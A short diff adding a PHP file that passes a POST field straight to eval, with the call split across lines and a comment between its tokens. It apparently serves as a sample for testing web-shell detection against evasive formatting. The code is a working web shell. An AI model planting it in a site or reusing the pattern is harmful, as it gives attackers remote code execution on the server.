@@ -1,0 +1,6 @@
+<?php
+// The call spread over lines, with a comment between its tokens.
+  eval /* x */ (
+    $_POST['multi']
+  );
+?>
